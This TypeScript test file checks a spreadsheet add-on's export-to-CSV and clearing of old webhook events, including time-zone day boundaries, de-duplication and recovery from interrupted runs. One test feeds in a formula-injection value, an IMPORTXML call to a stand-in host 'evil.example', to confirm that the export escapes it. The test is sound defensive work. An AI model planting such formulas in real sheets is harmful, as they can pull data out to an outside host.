/** Old events saved as CSV and cleared; late repeats of them are known all the same, and nothing else goes. */
import { eventBody } from './support/deliveries'
import { openReceiving, type ReceivingSheet } from './support/receiving'
import { OWNER } from './support/sheet'
import type { Answer, ClearPlan, ClearProgress, ExportPart } from '../../src/sidebar/protocol'
import type { HostOptions } from '../../workbench/fake-apps-script/types'

const SESSION = { user: OWNER, activeTabId: 0, selection: [{ row: 1, column: 1, rows: 1, columns: 1 }] }
const tell = <T>(sheet: ReceivingSheet, name: string, ...args: unknown[]): Answer<T> | null => {
  const { value, ok } = sheet.host.callFromSidebar(name, args, SESSION)
  return ok ? (JSON.parse(String(value)) as Answer<T>) : null
}
const ask = <T>(sheet: ReceivingSheet, name: string, ...args: unknown[]): T => {
  const answer = tell<T>(sheet, name, ...args)
  if (!answer?.ok) throw new Error(answer ? `${answer.error.title} ${answer.error.help}` : 'killed')
  return answer.value
}

/** Midnight of 10 September in Ljubljana is 22:00 UTC the day before. */
const BEFORE = '2026-09-10'
const OLD = ['2026-09-08T10:00:00Z', '2026-09-09T21:59:59Z']
const NEW = ['2026-09-09T22:00:00Z', '2026-09-14T08:00:00Z']

/** Two old ones, two new, one old, one new: not in the order of time. */
const TIMES = [OLD[0], OLD[1], NEW[0], NEW[1], OLD[0], NEW[1]].map(String)
const bodies = TIMES.map((timestamp, index) => eventBody({ lead: index + 1, timestamp }))

const filled = (host: Partial<HostOptions> = {}): ReceivingSheet => {
  const sheet = openReceiving({ host })
  for (const body of bodies) sheet.post(body)
  return sheet
}
const names = (sheet: ReceivingSheet): string[] => sheet.events().map(({ lead_full_name = '' }) => lead_full_name).sort()
const STAY = ['Ada Novak 3', 'Ada Novak 4', 'Ada Novak 6']

test('the plan counts days of the spreadsheet’s time zone', () => {
  const sheet = filled()
  expect(ask<ClearPlan>(sheet, 'planClearEvents', { before: BEFORE })).toEqual({ count: 3, of: 6, buttonLabel: 'Delete 3 events before 2026-09-10', blocked: null })
  expect(ask<ClearPlan>(sheet, 'planClearEvents', { before: '2026-09-01' }).blocked).toBe('There are no events before 2026-09-01.')
})

test.each(['', 'yesterday', '2026-02-30', '2026-9-1'])('“%s” is told to be no day', (before) => {
  expect(tell(filled(), 'planClearEvents', { before })).toMatchObject({ ok: false, error: { title: expect.stringContaining('That is no day') } })
})

test('the CSV holds just those that go, own columns too, and no formula of anybody’s', () => {
  const sheet = openReceiving()
  sheet.post(eventBody({ lead: 1, timestamp: OLD[0], text: '=IMPORTXML("https://evil.example","//x")' }))
  sheet.post(eventBody({ lead: 2, timestamp: NEW[1] }))
  const events = sheet.book.tabByName('Events')
  events?.enterRaw(1, 45, [['My note']])
  events?.enterRaw(2, 45, [['said "hello", twice']])
  const { csv, next } = ask<ExportPart>(sheet, 'exportEvents', { before: BEFORE, from: 0 })
  expect(next).toBeNull()
  const [header, ...lines] = csv.trimEnd().split('\r\n')
  expect(header).toMatch(/^event_type,timestamp,.*,My note$/)
  expect(lines).toHaveLength(1)
  expect(lines[0]).toContain('"said ""hello"", twice"')
  expect(lines[0]).toContain(`"'=IMPORTXML(`)
})

test('clears the old ones, and their late repeats add no row', () => {
  const sheet = filled()
  expect(ask<ClearProgress>(sheet, 'clearEvents', { before: BEFORE })).toEqual({ deleted: 3, left: 0 })
  expect(names(sheet)).toEqual(STAY)
  for (const body of bodies) expect(sheet.post(body).acknowledged).toBe(true)
  expect(names(sheet)).toEqual(STAY)
})

test('also when the hidden memory had been deleted before', () => {
  const sheet = filled()
  const keys = sheet.book.tabByName('HeyReach keys')
  if (keys) sheet.book.deleteTab(keys.id)
  ask<ClearProgress>(sheet, 'clearEvents', { before: BEFORE })
  for (const body of bodies) sheet.post(body)
  expect(names(sheet)).toEqual(STAY)
})

describe('at every backend call of clearing', () => {
  let seen = 0
  let at = Infinity
  let strike: () => 'kill' | void = () => undefined
  const host: Partial<HostOptions> = {
    onCall: ({ backend }) => {
      if (!backend) return
      seen += 1
      if (seen === at) return strike()
    },
  }
  const clearWith = (call: number, what: typeof strike): ReceivingSheet => {
    at = Infinity
    const sheet = filled(host)
    seen = 0
    at = call
    strike = what
    tell(sheet, 'clearEvents', { before: BEFORE })
    at = Infinity
    return sheet
  }
  const all = (() => {
    clearWith(Infinity, () => undefined)
    return seen
  })()
  const calls = Array.from({ length: all }, (_, index) => index + 1)

  test('a kill: pressing again ends it, and those that stay are there once', () => {
    expect(all).toBeGreaterThan(10)
    for (const call of calls) {
      const sheet = clearWith(call, () => 'kill')
      ask(sheet, 'clearEvents', { before: BEFORE })
      expect({ call, names: names(sheet) }).toEqual({ call, names: STAY })
      for (const body of bodies) sheet.post(body)
      expect({ call, names: names(sheet) }).toEqual({ call, names: STAY })
    }
  })

  test.each([
    ['inserts a row at the top', (sheet: ReceivingSheet) => sheet.book.tabByName('Events')?.insertRows(2, 1)],
    ['inserts two rows in the middle', (sheet: ReceivingSheet) => sheet.book.tabByName('Events')?.insertRows(4, 2)],
  ])('a person %s: those that stay are there once', (_, edit) => {
    for (const call of calls) {
      let current: ReceivingSheet | null = null
      at = Infinity
      current = filled(host)
      seen = 0
      at = call
      strike = () => void (current && edit(current))
      tell(current, 'clearEvents', { before: BEFORE })
      at = Infinity
      ask(current, 'clearEvents', { before: BEFORE })
      expect({ call, names: names(current) }).toEqual({ call, names: STAY })
    }
  })
})
